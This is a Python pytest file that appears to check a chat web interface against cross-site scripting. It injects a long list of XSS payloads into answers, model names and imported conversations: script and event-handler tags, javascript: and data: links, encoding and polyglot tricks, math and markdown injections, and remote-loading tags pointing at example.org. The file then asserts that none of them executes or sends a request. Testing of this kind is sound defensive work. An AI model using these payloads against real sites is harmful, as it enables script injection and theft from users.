"""The page of weft serve with what an attacker has a model say: HTML, links, pictures, formulas and code that would run a script or tell another server, as answers, names and
imported conversations. Nothing of it becomes an element that acts, no policy has to stop it, and no request leaves.

WEFT_XSS=FOLDER: each line of its *.txt files besides, for example the lists in "XSS Injection/Intruders" of github.com/swisskyrepo/PayloadsAllTheThings."""
import json
import os
from pathlib import Path

import pytest
from browser import Browser, find
from serving import Server

THREADS = 1

ACT = "window.hurt = 1"
# by kind: tags, attributes, ends of what may surround them, addresses, encodings, tags in other languages' clothes
SAID = [
    f"<script>{ACT}</script>", f"<ScRiPt >{ACT}</sCrIpT>", f"<scr<script>ipt>{ACT}</scr</script>ipt>", "<script src=//example.org/x.js></script>", f"</script><script>{ACT}</script>",
    f"<img src=x onerror='{ACT}'>", f"<img/src=x/onerror='{ACT}'>", f"<img src=x oneonerrorrror='{ACT}'>", f"\"><img src=x onerror='{ACT}'>", "<img src=https://example.org/track.png>",
    f"<svg onload='{ACT}'>", f"<svg><script>{ACT}</script></svg>", f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>", f"<svg><animate onbegin='{ACT}' attributeName=x dur=1s>",
    "<svg><use href='https://example.org/x.svg#a'/></svg>", f"<math><maction actiontype='statusline#x' xlink:href='javascript:{ACT}'>x</maction></math>",
    f"<iframe srcdoc='<script>parent.hurt = 1</script>'></iframe>", f"<iframe src='javascript:parent.hurt = 1'></iframe>", "<iframe src=https://example.org></iframe>",
    f"<object data='javascript:{ACT}'></object>", "<embed src=https://example.org/x.swf>", "<link rel=stylesheet href=https://example.org/x.css>", "<style>@import 'https://example.org/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>", "<base href=https://example.org/>", "<form action=https://example.org><input name=a><button>x</button></form>",
    f"<details open ontoggle='{ACT}'>", f"<video><source onerror='{ACT}'></video>", f"<audio src=x onerror='{ACT}'>", f"<body onload='{ACT}'>", f"<input autofocus onfocus='{ACT}'>",
    f"<marquee onstart='{ACT}'>", "<div style='background: url(https://example.org/x.png)'>x</div>", "<table background=https://example.org/x.png><td>x</table>",
    f"</textarea><script>{ACT}</script>", f"</title><script>{ACT}</script>", f"--><script>{ACT}</script>", f"]]><script>{ACT}</script>", f"<!--><script>{ACT}</script>-->",
    f"<noscript><p title=\"</noscript><img src=x onerror='{ACT}'>\">", f"<template><script>{ACT}</script></template>", f"<x contenteditable onblur='{ACT}'>x</x>",
    f"[x](javascript:{ACT})", f"[x](JaVaScRiPt:{ACT})", f"[x](java\nscript:{ACT})", f"[x](java&#10;script:{ACT})", f"[x](&#x6A;avascript:{ACT})", f"[x](\x01javascript:{ACT})", f"[x](%6Aavascript:{ACT})",
    f"[x](<javascript:{ACT}>)", f"[x](vbscript:x)", f"[x](data:text/html,<script>{ACT}</script>)", f"[x](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)", f"[x](file:///etc/passwd)", f"[x](blob:https://example.org/1)",
    f"[x](https://example.org \"' onmouseover='{ACT}\")", f"[x](https://example.org\" onmouseover=\"{ACT})", f"<javascript:{ACT}>", f"[a]: javascript:{ACT}\n\n[a]", f"[x]( javascript:{ACT})",
    "![x](https://example.org/track.png)", f"![x](javascript:{ACT})", "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)", "![x](//example.org/x.png)", "![x][a]\n\n[a]: https://example.org/x.png",
    f"![x\" onerror=\"{ACT}](x)", f"[![x](https://example.org/x.png)](javascript:{ACT})", f"`<img src=x onerror='{ACT}'>`", f"```html\n<script>{ACT}</script>\n```", f"````\n```\n<script>{ACT}</script>\n```\n````",
    f"```js\" onmouseover=\"{ACT}\nx\n```", f"```<img src=x onerror='{ACT}'>\nx\n```", f"~~~\n</code></pre><script>{ACT}</script>\n~~~", f"| <img src=x onerror='{ACT}'> |\n|---|\n| [x](javascript:{ACT}) |",
    f"$\\href{{javascript:{ACT}}}{{x}}$", "$\\url{javascript:alert(1)}$", "$\\includegraphics{https://example.org/x.png}$", f"$\\htmlData{{a=b\" onmouseover=\"{ACT}}}{{x}}$", f"$<img src=x onerror='{ACT}'>$",
    "$\\def\\a{\\a\\a}\\a$", f"$$\\text{{</annotation><script>{ACT}</script>}}$$", f"\\(\\class{{x\" onload=\"{ACT}}}{{x}}\\)", f"> <img src=x onerror='{ACT}'>", f"- [ ] <script>{ACT}</script>", f"# <svg onload='{ACT}'>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;", f"&#60;script&#62;{ACT}&#60;/script&#62;", f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e", f"<\0script>{ACT}</script>", f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-", f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={ACT} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={ACT}//>\\x3e",
    "__proto__", "constructor.prototype", "<a id=store><a id=store name=x>", "<img name=body>", "<form id=input><input name=value></form>", "<div id=thread></div>"]
# where an answer may have it
AROUND = ["{}", "a **{}** b", "[{}](https://example.org/)", "![{}](x)", "| {} |\n|---|\n| {} |", "- {}\n  - {}", "`{}`", "```\n{}\n```", "```{}\nx\n```", "${}$", "$$\n{}\n$$", "<{}>", "[x]({})", "[x](<{}>)", "> {}"]

# What is in the page of each text, written at once and in pieces: elements that act or load, attributes that do, addresses of other kinds.
LOOK = """(texts) => {
  const bad = [], acts = 'script, iframe, frame, object, embed, link, style, meta, base, form, video, audio, source, template, noscript, marquee, animate, set, use, foreignObject, maction, input:not([type=checkbox])';
  for (const text of texts) {
    for (const step of [0, 5]) {
      const to = element('div', {class: 'body'});
      document.getElementById('thread').replaceChildren(to);
      if (!step) write(to, text);
      else {
        const w = new Writer(to);
        for (let i = 0; i < text.length; i += step) w.add(text.slice(i, i + step));
        w.end?.();
      }
      for (const e of to.querySelectorAll('*')) {
        if (e.matches(acts)) bad.push([text, step, e.outerHTML.slice(0, 200)]);
        for (const a of e.attributes) {
          const value = a.value.replace(/[\\0-\\x20]/g, '').toLowerCase();
          if (a.name.startsWith('on') || a.name === 'srcdoc') bad.push([text, step, a.name]);
          if (['href', 'xlink:href', 'src', 'action', 'formaction', 'background', 'poster', 'data'].includes(a.name) && !/^(https?:|mailto:|#|data:image\\/png|blob:)/.test(value)) bad.push([text, step, a.name + '=' + value]);
          if (a.name === 'style' && /url|expression|import/.test(value)) bad.push([text, step, value]);
          if (a.name === 'src' && /^https?:/.test(value)) bad.push([text, step, value]);
        }
      }
    }
  }
  return bad;
}"""


def texts():
    said = list(SAID)
    folder = os.environ.get("WEFT_XSS")
    if folder:
        said += sorted({line for path in Path(folder).glob("*.txt") for line in path.read_text(encoding="utf-8", errors="replace").splitlines() if line.strip()})
    around = AROUND if not folder else AROUND[:1] + AROUND[8:9] + AROUND[12:13]
    return said, [a.replace("{}", s) for s in said for a in around]


@pytest.fixture(scope="module")
def page(weft, weft_env, tinypy):
    if not find():
        pytest.fail("no Chromium: scripts/setup.sh test installs chromium-headless-shell")
    with Server(weft, weft_env, tinypy, "--alias", f"<img src=x onerror='{ACT}'>") as s, Browser(1200, 900) as b:
        b.call("Page.navigate", url=s.url + "/")
        b.until("document.readyState === 'complete' && typeof ready !== 'undefined' && ready")
        b.eval("window.alert = window.confirm = window.prompt = window.print = () => { window.hurt = 1 }; window.stopped = []; document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.violatedDirective + ' ' + e.blockedURI)); 0")
        yield b, s


def nothing_happened(b, s):
    b.eval("for (const e of document.querySelectorAll('#thread *')) e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); document.body.offsetHeight")
    assert b.eval("window.hurt === undefined") and b.eval("stopped") == []
    assert all(url.startswith((s.url, "data:", "blob:")) for url in b.requests), b.requests
    assert b.eval("location.href") == s.url + "/"


def test_answers(page):
    b, s = page
    said, all_ = texts()
    for path in ("katex", "highlight"):
        b.eval(f"typeof load === 'function' ? load('/page/lib/{path}.js') : 0")
    for at in range(0, len(all_), 250):
        bad = b.eval(f"({LOOK})({json.dumps(all_[at:at + 250])})")
        assert bad == [], bad[:5]
        nothing_happened(b, s)
    assert len(all_) > 1000


def test_names_and_imported_conversations(page):
    """In every text of a file of conversations, and as the model's name."""
    b, s = page
    said = SAID[::3]
    nodes = {f"n{i}": {"id": f"n{i}", "parent": f"n{i - 1}" if i else "", "role": ["user", "assistant"][i % 2], "content": text, "reasoning": text, "model": text,
                       "calls": [{"id": text, "name": text, "arguments": text}], "files": [{"name": text, "type": text, "text": text, "url": text}]} for i, text in enumerate(said)}
    one = {"title": said[5], "system": said[6], "model": said[7], "nodes": nodes, "chosen": {("" if not i else f"n{i - 1}"): f"n{i}" for i in range(len(said))}}
    text = json.dumps({"conversations": [one, {**one, "title": SAID[5], "id": SAID[0]}]})
    assert b.eval(f"importFile(new File([{json.dumps(text)}], 'x.json'))") == 2
    b.eval("drawList(); openConversation(store.sorted()[0].id)")
    b.until("document.querySelectorAll('article').length > 5")
    assert b.eval("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || /^javascript:/i.test(a.value))).length") == 0
    assert b.eval("document.querySelectorAll('#thread script, #thread iframe, #thread object, #thread embed, #list img, header img').length") == 0
    nothing_happened(b, s)
    b.eval("localStorage.clear()")
